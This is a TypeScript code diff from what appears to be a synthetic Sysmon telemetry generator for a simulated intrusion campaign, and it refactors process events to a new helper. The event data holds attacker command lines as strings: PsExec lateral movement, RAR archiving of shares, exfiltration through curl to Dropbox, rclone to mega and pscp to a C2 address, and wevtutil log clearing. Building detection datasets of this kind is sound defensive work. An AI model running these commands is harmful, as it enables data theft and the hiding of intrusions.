@@ -10,6 +10,7 @@ import {
   sysServiceInstalled,
   sysmonDns,
   sysmonNetwork,
+  sysmonFromCmd,
   sysmonProcess,
 } from './events.js';
 
@@ -34,7 +35,6 @@ export function spreadStages(ctx: CampaignContext): void {
     dayAt,
     stage,
     who,
-    cmdExe,
     loaderDir,
     mspTech,
     jpTech,
@@ -65,11 +65,9 @@ export function spreadStages(ctx: CampaignContext): void {
     });
     ev.push({
       host: jump,
-      spec: sysmonProcess(jump, t + 1000, {
+      spec: sysmonFromCmd(jump, t + 1000, {
         image: psexe,
         commandLine: `${psexe} \\\\${mxFs.name} -accepteula -s cmd.exe`,
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(mspTech),
         originalFileName: 'psexec.c',
       }),
@@ -106,11 +104,9 @@ export function spreadStages(ctx: CampaignContext): void {
     });
     ev.push({
       host: mxFs,
-      spec: sysmonProcess(mxFs, t + 3 * HOUR, {
+      spec: sysmonFromCmd(mxFs, t + 3 * HOUR, {
         image: rar,
         commandLine: `${rar} a -hpQx7!mR2v -m5 C:\\$Recycle.Bin\\pp.rar \\\\${mxFs.name}\\Sales\\*`,
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(mxTech),
         originalFileName: 'Rar.exe',
       }),
@@ -153,11 +149,9 @@ export function spreadStages(ctx: CampaignContext): void {
     const curl = 'C:\\Windows\\Temp\\c.exe';
     ev.push({
       host: jpFs,
-      spec: sysmonProcess(jpFs, t, {
+      spec: sysmonFromCmd(jpFs, t, {
         image: curl,
         commandLine: `${curl} -k -X POST https://content.dropboxapi.com/2/files/upload --header "Dropbox-API-Arg: {\\"path\\": \\"/bk/ss.part1.rar\\"}" -T C:\\$Recycle.Bin\\ss.part1.rar`,
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(jpTech),
         originalFileName: 'curl.exe',
       }),
@@ -180,11 +174,9 @@ export function spreadStages(ctx: CampaignContext): void {
     const t3 = dayAt(0.73, 1);
     ev.push({
       host: mxFs,
-      spec: sysmonProcess(mxFs, t3, {
+      spec: sysmonFromCmd(mxFs, t3, {
         image: rclone,
         commandLine: `${rclone} copy C:\\$Recycle.Bin\\pp.rar mega:bk --config C:\\ProgramData\\rc\\rc.conf -q`,
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(mxTech),
         originalFileName: 'rclone.exe',
       }),
@@ -193,11 +185,9 @@ export function spreadStages(ctx: CampaignContext): void {
     const t2 = dayAt(0.72, 4);
     ev.push({
       host: jump,
-      spec: sysmonProcess(jump, t2, {
+      spec: sysmonFromCmd(jump, t2, {
         image: pscp,
         commandLine: `${pscp} -batch -pw Xu8!kd C:\\ProgramData\\pp.rar sync@${c2Ip}:/srv/u/`,
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(mspTech),
         originalFileName: 'PSCP',
       }),
@@ -225,22 +215,18 @@ export function spreadStages(ctx: CampaignContext): void {
     const wevtutil = 'C:\\Windows\\System32\\wevtutil.exe';
     ev.push({
       host: jpFs,
-      spec: sysmonProcess(jpFs, t, {
+      spec: sysmonFromCmd(jpFs, t, {
         image: wevtutil,
         commandLine: 'wevtutil cl "Windows PowerShell"',
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(jpTech),
         originalFileName: 'wevtutil.exe',
       }),
     });
     ev.push({
       host: jpFs,
-      spec: sysmonProcess(jpFs, t + 2000, {
+      spec: sysmonFromCmd(jpFs, t + 2000, {
         image: wevtutil,
         commandLine: 'wevtutil cl Microsoft-Windows-PowerShell/Operational',
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(jpTech),
         originalFileName: 'wevtutil.exe',
       }),
@@ -251,11 +237,9 @@ export function spreadStages(ctx: CampaignContext): void {
     });
     ev.push({
       host: jpDc,
-      spec: sysmonProcess(jpDc, t + HOUR, {
+      spec: sysmonFromCmd(jpDc, t + HOUR, {
         image: wevtutil,
         commandLine: 'wevtutil cl Security',
-        parentImage: cmdExe,
-        parentCommandLine: `"${cmdExe}"`,
         user: who(stolenAdmin),
         originalFileName: 'wevtutil.exe',
       }),
